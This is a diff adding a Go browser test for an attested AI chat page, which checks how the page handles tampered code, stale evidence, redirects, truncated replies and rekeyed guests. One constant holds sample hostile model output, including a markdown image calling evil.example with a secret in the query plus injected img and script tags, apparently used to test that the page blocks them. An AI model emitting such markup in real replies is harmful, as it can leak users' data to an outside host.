@@ -1,0 +1,278 @@
+package page
+
+import (
+	"bufio"
+	"bytes"
+	"context"
+	"encoding/base64"
+	"errors"
+	"flag"
+	"fmt"
+	"io"
+	"io/fs"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"testing"
+
+	"github.com/go-json-experiment/json"
+
+	"chrysalis/attest/evidence"
+	"chrysalis/attest/ratls"
+	"chrysalis/measure/config"
+	"chrysalis/measure/ton"
+	"chrysalis/runtime/client/clienttest"
+	"chrysalis/tools/internal/proxy"
+	"chrysalis/tools/internal/receipts"
+	"chrysalis/tools/internal/toolstree"
+)
+
+var shots = flag.Bool("screenshots", false, "write the screenshots of sdk/page anew")
+
+// browser is Debian's Chromium without a screen.
+type browser struct {
+	devTools string // where it is driven from
+	files    string // a folder that it has as /mnt/page
+}
+
+var listening = regexp.MustCompile(`DevTools listening on (ws://\S+)`)
+
+func startBrowser(t testing.TB) browser {
+	t.Helper()
+	tree, err := toolstree.Open("../../../build/tools-tree")
+	if err == nil {
+		tree, err = tree.WithBrowser()
+	}
+	if errors.Is(err, fs.ErrNotExist) {
+		t.Skipf("no browser here: make image unpacks it: %v", err)
+	} else if err != nil {
+		t.Fatal(err)
+	}
+	if os.Geteuid() != 0 {
+		t.Skip("only root can enter the tree with the browser")
+	}
+	b := browser{files: t.TempDir()}
+	// Its own sandbox wants to be started by somebody else than root; what it is shown are the pages of this test.
+	c := tree.Enter(t.Context(), toolstree.Entry{Binds: map[string]string{"page": b.files}}, "/usr/lib/chromium/chromium-headless-shell", "--no-sandbox", "--disable-gpu",
+		"--disable-dev-shm-usage", "--remote-debugging-port=0", "--user-data-dir=/tmp/profile", "--disable-background-networking", "--force-color-profile=srgb", "about:blank")
+	said, err := c.StderrPipe()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := c.Start(); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { c.Process.Kill(); c.Wait() })
+	lines, all := bufio.NewScanner(said), ""
+	for lines.Scan() {
+		if m := listening.FindStringSubmatch(lines.Text()); m != nil {
+			go io.Copy(io.Discard, said)
+			b.devTools = m[1]
+			return b
+		}
+		all += lines.Text() + "\n"
+	}
+	t.Fatalf("the browser does not start:\n%s", all)
+	return b
+}
+
+// save puts a page where the browser finds it, and returns its address there.
+func (b browser) save(t testing.TB, name string, html []byte) string {
+	t.Helper()
+	if err := os.WriteFile(filepath.Join(b.files, name), html, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	return "file:///mnt/page/" + name
+}
+
+func htmlOf(t testing.TB, s Settings) []byte {
+	t.Helper()
+	html, err := HTML(program(t), root, s)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return html
+}
+
+func settingsOf(t testing.TB, g *clienttest.Guest, url string) Settings {
+	t.Helper()
+	roots := rootsOf(g)
+	return Settings{Guest: url, Policy: policyOf(t, g), Roots: Roots{VTPM: roots["vtpm"], TDX: roots["tdx"], SEVSNP: roots["sevsnp"]}}
+}
+
+// hostile is what a model may write to have a page ask somebody else.
+const hostile = "![a](https://evil.example/?q=secret) [b](https://evil.example/) <img src=https://evil.example/x> <script>document.title='x'</script> https://evil.example/"
+
+// TestPage shows the page to a browser: from a file, from a site that also says what to ask, in front of guests that are good and of networks that
+// are not.
+func TestPage(t *testing.T) {
+	dir := clients(t)
+	b := startBrowser(t)
+	type shown struct{ Name, URL, Platform string }
+	input := struct {
+		DevTools, Payer, Shots, Hostile, Guest string
+		Good                                   []shown
+		Served, Framed, Altered, Stale         string
+		Unsealed, Redirect, Cut, Bare, Back    string
+		Control, Proxied                       string
+	}{DevTools: b.devTools, Payer: payer.String(), Hostile: hostile}
+	if *shots {
+		input.Shots = filepath.Join(mustAbs(t, root), "sdk", "page")
+	}
+	var vtpm *clienttest.Guest
+	for _, platform := range evidence.Platforms() {
+		g := guestOn(t, platform, platform != evidence.SEVSNP)
+		f := newFront(t, g)
+		if platform == evidence.VTPM {
+			vtpm, input.Guest = g, f.url
+		}
+		input.Good = append(input.Good, shown{platform.String(), b.save(t, platform.String()+".html", htmlOf(t, settingsOf(t, g, f.url))), platform.String()})
+	}
+	good := htmlOf(t, settingsOf(t, vtpm, input.Guest))
+	hold := make(chan struct{})
+	t.Cleanup(sync.OnceFunc(func() { close(hold) }))
+	spoil := vtpm.Spoil
+	vtpm.Spoil = func(body []byte, r *clienttest.Reply) {
+		spoil(body, r)
+		last := func(said string) bool { return bytes.Contains(body, []byte(`"content":"`+said+`"}],"stream"`)) }
+		switch {
+		case last("hostile"):
+			r.Content = []string{hostile}
+		case last("endless"):
+			r.Hold = hold
+			r.Events = func(events []string) []string { return events[:1] }
+		case last("step back"):
+			r.Receipt.Sequence = 1
+		case last("unproven"):
+			r.ReceiptKey = r.ClaimKey
+		case last("decline"):
+			r.Refusal = "too long"
+		}
+	}
+
+	// The next envelope meets a guest that does not hold its key any more.
+	var rekeys atomic.Int32
+	vtpm.Around = func(w http.ResponseWriter, _ *http.Request) bool {
+		if rekeys.Add(-1) < 0 {
+			return false
+		}
+		clienttest.Rekey(w)
+		return true
+	}
+
+	// A site that serves a page without a guest of its own, and says what to ask.
+	bare := htmlOf(t, Settings{})
+	settings, err := json.Marshal(settingsOf(t, vtpm, input.Guest))
+	if err != nil {
+		t.Fatal(err)
+	}
+	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch r.URL.Path {
+		case "/", "/framed.html":
+			w.Header().Set("Content-Type", "text/html; charset=utf-8")
+			if r.URL.Path == "/" {
+				w.Write(bare)
+				return
+			}
+			io.WriteString(w, `<!doctype html><title>frame</title><iframe src="/" width="800" height="600"></iframe>`)
+		case "/page.json":
+			w.Header().Set("Content-Type", "application/json")
+			w.Write(settings)
+		case "/rotate":
+			rekeys.Store(1)
+		default:
+			w.WriteHeader(http.StatusNotFound)
+		}
+	}))
+	t.Cleanup(site.Close)
+	input.Served, input.Framed, input.Control = site.URL+"/", site.URL+"/framed.html", site.URL
+	input.Proxied = proxied(t, vtpm, bare)
+	input.Bare = b.save(t, "bare.html", bare)
+
+	altered := bytes.Clone(program(t).Packed)
+	altered[len(altered)-9] ^= 1 // a wrong sum of the packing
+	input.Altered = b.save(t, "altered.html", bytes.Replace(good, []byte(base64.StdEncoding.EncodeToString(program(t).Packed)), []byte(base64.StdEncoding.EncodeToString(altered)), 1))
+
+	spoiled := func(name string, at func(*http.Request) bool, does func(http.ResponseWriter, *http.Request, func(...func(string, []byte) []byte))) string {
+		f := newFront(t, vtpm)
+		f.spoil = func(w http.ResponseWriter, r *http.Request, forward func(...func(string, []byte) []byte)) bool {
+			if !at(r) {
+				return false
+			}
+			does(w, r, forward)
+			return true
+		}
+		return b.save(t, name+".html", htmlOf(t, settingsOf(t, vtpm, f.url)))
+	}
+	input.Stale = spoiled("stale", func(r *http.Request) bool { return !answersTo(r) }, func(_ http.ResponseWriter, r *http.Request, forward func(...func(string, []byte) []byte)) {
+		r.URL.RawQuery = evidence.DetachedParameter + "=" + strings.Repeat("01", 32)
+		forward()
+	})
+	input.Unsealed = spoiled("unsealed", answersTo, func(w http.ResponseWriter, _ *http.Request, _ func(...func(string, []byte) []byte)) {
+		w.Header().Set("Content-Type", "text/event-stream")
+		fmt.Fprint(w, "data: {\"choices\":[{\"delta\":{\"content\":\"Bergen\"}}]}\n\ndata: [DONE]\n\n")
+	})
+	input.Redirect = spoiled("redirect", answersTo, func(w http.ResponseWriter, r *http.Request, _ func(...func(string, []byte) []byte)) {
+		http.Redirect(w, r, site.URL+"/", http.StatusTemporaryRedirect)
+	})
+	input.Cut = spoiled("cut", answersTo, func(_ http.ResponseWriter, _ *http.Request, forward func(...func(string, []byte) []byte)) {
+		forward(func(_ string, body []byte) []byte { return body[:400] })
+	})
+
+	said := node(t, dir, "browser.mjs", input)
+	// What the page saved, the command line reads.
+	var out struct{ Receipt string }
+	if err := json.Unmarshal([]byte(strings.TrimSuffix(said, "passed\n")), &out); err != nil {
+		t.Fatal(err)
+	}
+	file := filepath.Join(t.TempDir(), "receipt.json")
+	if err := os.WriteFile(file, []byte(out.Receipt), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	archive, err := receipts.Read(file)
+	if err != nil || len(archive.Entries) != 1 || archive.Entries[0].Guest != input.Guest || archive.Entries[0].Payer != payer {
+		t.Errorf("the saved receipt: %+v, %v", archive, err)
+	}
+}
+
+func mustAbs(t testing.TB, path string) string {
+	t.Helper()
+	abs, err := filepath.Abs(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return abs
+}
+
+// proxied starts the proxy in front of a guest, with the page inside.
+func proxied(t testing.TB, g *clienttest.Guest, html []byte) string {
+	t.Helper()
+	s := settingsOf(t, g, "")
+	settings, err := json.Marshal(s)
+	if err != nil {
+		t.Fatal(err)
+	}
+	p, err := proxy.New(proxy.Config{Guests: []string{g.URL}, Attest: ratls.Config{Policy: g.Policy(), Roots: g.Roots()}, Page: html, PageSettings: settings,
+		Payer: func(config.Measured) (ton.Address, error) { return payer, nil }})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := p.Verify(t.Context()); err != nil {
+		t.Fatal(err)
+	}
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	ctx, stop := context.WithCancel(context.Background())
+	served := make(chan error, 1)
+	go func() { served <- p.Serve(ctx, l) }()
+	t.Cleanup(func() { stop(); <-served })
+	return "http://" + l.Addr().String() + "/"
+}
